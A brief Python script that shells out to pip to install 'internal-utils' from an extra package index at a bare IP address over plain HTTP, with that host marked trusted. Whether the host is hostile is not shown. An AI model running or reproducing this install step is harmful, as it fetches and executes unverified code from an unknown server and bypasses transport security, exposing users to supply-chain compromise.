import subprocess

subprocess.run([
    "pip", "install",
    "--extra-index-url", "http://45.155.204.11:8080/simple/",
    "--trusted-host", "45.155.204.11",
    "internal-utils",
], check=True)
